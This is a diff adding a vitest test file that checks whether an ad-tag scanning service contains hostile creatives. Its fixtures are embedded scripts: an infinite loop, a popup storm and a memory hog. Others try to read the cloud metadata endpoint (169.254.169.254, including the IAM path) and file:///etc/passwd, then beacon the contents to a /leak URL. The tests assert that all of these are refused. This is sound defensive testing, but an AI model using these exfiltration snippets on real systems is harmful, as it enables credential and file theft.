@@ -1,0 +1,125 @@
+// Hostile tags: each scan ends within its bound, refuses what the outbound policy refuses, leaks nothing, and the
+// service keeps working for the next scan. Plus the public ad-tag corpus: every tag scans without error.
+import { existsSync, readdirSync, readFileSync, statSync } from "node:fs";
+import path from "node:path";
+import { fileURLToPath } from "node:url";
+import { createMemoryArtifactSink, createOutboundPolicy } from "@cva/platform";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createBrowserPool, createTagScanner, type BrowserPool, type TagScanner } from "../src/index.ts";
+import { PIXEL_GIF, send, startFixtureServer, tagJob } from "./helpers.ts";
+
+let pool: BrowserPool;
+let scanner: TagScanner;
+let fixture: Awaited<ReturnType<typeof startFixtureServer>>;
+const artifacts = createMemoryArtifactSink();
+const RENDER_MS = 8_000;
+
+const box = `<div style="width:300px;height:250px;background:#393"></div>`;
+
+beforeAll(async () => {
+  pool = createBrowserPool({ browsers: 1, slots: 2, maxHeapMb: 256 });
+  scanner = createTagScanner({
+    pool, artifacts, location: "usa",
+    policy: createOutboundPolicy(["127.0.0.0/8", "::1/128"]),
+    timeouts: { renderMs: RENDER_MS, quietMs: 1_000, stepMs: 3_000, landingMs: 5_000 },
+  });
+  fixture = await startFixtureServer({ "/leak": send("image/gif", PIXEL_GIF), "/ok.gif": send("image/gif", PIXEL_GIF) });
+});
+afterAll(async () => {
+  await fixture?.close();
+  await pool?.close();
+});
+
+/** The service still renders a plain creative correctly. */
+async function stillWorks() {
+  const r = await scanner.scan(tagJob(box));
+  expect(r.creativeRendered).toBe(true);
+  expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
+  expect(r.timedOut).toBe(false);
+}
+
+describe("hostile tags", () => {
+  it("an endless loop times out with a report, and the next scan works", async () => {
+    const t = Date.now();
+    const r = await scanner.scan(tagJob(`${box}<script>while (true) {}</script>`));
+    expect(r.timedOut).toBe(true);
+    expect(Date.now() - t).toBeLessThan(RENDER_MS + 30_000);
+    await stillWorks();
+  }, 90_000);
+
+  it("a popup storm leaves no popup open", async () => {
+    const r = await scanner.scan(tagJob(`${box}<script>
+for (let i = 0; i < 50; i++) window.open("about:blank#" + i, "_blank");
+setInterval(() => window.open("${fixture.origin}/ok.gif", "_blank"), 20);
+</script>`));
+    expect(r.creativeRendered).toBe(true);
+    expect(pool.busy).toBe(0);
+    await stillWorks();
+  }, 90_000);
+
+  it("a memory hog is contained", async () => {
+    const r = await scanner.scan(tagJob(`${box}<script>
+const hog = []; setTimeout(function grow() { for (let i = 0; i < 50; i++) hog.push(new Array(1e6).fill(Math.random())); setTimeout(grow, 0); }, 100);
+</script>`));
+    expect(r.jobId).not.toBe("");
+    await stillWorks();
+  }, 90_000);
+
+  it("requests and navigations to the metadata address are refused and recorded", async () => {
+    const r = await scanner.scan(tagJob(`${box}
+<img src="http://169.254.169.254/latest/meta-data/x.png">
+<iframe src="http://169.254.169.254/latest/meta-data/" width="10" height="10" style="position:absolute;left:0;top:0;border:0"></iframe>
+<script>
+fetch("http://169.254.169.254/latest/meta-data/iam").then((r) => r.text()).then((t) => { new Image().src = "${fixture.origin}/leak?m=" + encodeURIComponent(t); }).catch(() => {});
+new WebSocket("ws://169.254.169.254/socket");
+setTimeout(() => { top.location.href = "http://169.254.169.254/latest/meta-data/"; }, 300);
+</script>`));
+    const meta = r.network!.responses.filter((x) => x.url.includes("169.254.169.254"));
+    expect(meta.length).toBeGreaterThanOrEqual(4);
+    // Nothing came back from the metadata address: every attempt is a refusal (proxy 403 or failure).
+    for (const m of meta) expect(m.failure !== "" || m.status === 403).toBe(true);
+    expect(meta.some((m) => m.failure.includes("outbound policy"))).toBe(true);
+    expect(meta.find((m) => m.resourceType === "websocket")?.failure).not.toBe("");
+    expect(fixture.seen.some((s) => s.url.startsWith("/leak"))).toBe(false);
+    // The top frame stayed on the creative.
+    expect(r.creativeRendered).toBe(true);
+    expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
+    await stillWorks();
+  }, 90_000);
+
+  it("file:///etc/passwd cannot be read or leaked", async () => {
+    const r = await scanner.scan(tagJob(`${box}
+<iframe src="file:///etc/passwd" id="f" width="10" height="10" style="position:absolute;left:0;top:0;border:0"></iframe>
+<script>
+const leak = (t) => { new Image().src = "${fixture.origin}/leak?d=" + encodeURIComponent(String(t).slice(0, 200)); };
+fetch("file:///etc/passwd").then((r) => r.text()).then(leak).catch(() => {});
+try { const x = new XMLHttpRequest(); x.open("GET", "file:///etc/passwd", false); x.send(); leak(x.responseText); } catch (e) {}
+setTimeout(() => { try { leak(document.getElementById("f").contentDocument.body.innerText); } catch (e) {} }, 500);
+setTimeout(() => { location.href = "file:///etc/passwd"; }, 700);
+</script>`));
+    const leaks = fixture.seen.filter((s) => s.url.startsWith("/leak"));
+    for (const l of leaks) expect(decodeURIComponent(l.url)).not.toContain("root:");
+    expect(JSON.stringify(r, (_k, v) => (typeof v === "bigint" ? Number(v) : v))).not.toContain("root:x:0");
+    expect(r.dimensions).toMatchObject({ width: 300, height: 250 });
+    await stillWorks();
+  }, 90_000);
+});
+
+const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../../..");
+const corpus = path.resolve(repoRoot, "../shared/corpus/adtags");
+
+function htmlFiles(dir: string): string[] {
+  if (!existsSync(dir)) return [];
+  return readdirSync(dir).flatMap((n) => {
+    const p = path.join(dir, n);
+    return statSync(p).isDirectory() ? htmlFiles(p) : /\.html?$/i.test(n) ? [p] : [];
+  });
+}
+
+describe.skipIf(!existsSync(corpus))("ad tag corpus", () => {
+  it.each(htmlFiles(corpus).map((f) => [path.relative(corpus, f), f]))("%s scans without error", async (_name, file) => {
+    const r = await scanner.scan(tagJob(readFileSync(file, "utf8")));
+    expect(r.meta?.creativeType).toBeDefined();
+    expect(r.network).toBeDefined();
+  }, 90_000);
+});
